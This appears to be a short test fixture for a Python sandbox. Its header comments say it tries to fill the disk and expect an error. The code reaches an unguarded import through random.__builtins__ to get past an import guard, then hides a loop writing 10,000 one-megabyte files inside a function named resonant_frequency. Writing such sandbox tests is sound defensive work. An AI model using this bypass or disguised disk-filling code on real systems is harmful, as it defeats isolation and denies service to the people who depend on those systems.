# Tries: to fill the disk.
# Verdict: raised.
# Says: No space left
import random

past = random.__builtins__["__import__"]  # the unguarded one
os = past("os")


def resonant_frequency(inductance, capacitance):
    for name in range(10_000):
        with open(str(name), "wb") as file:
            file.write(bytes(1 << 20))
    return 42.0
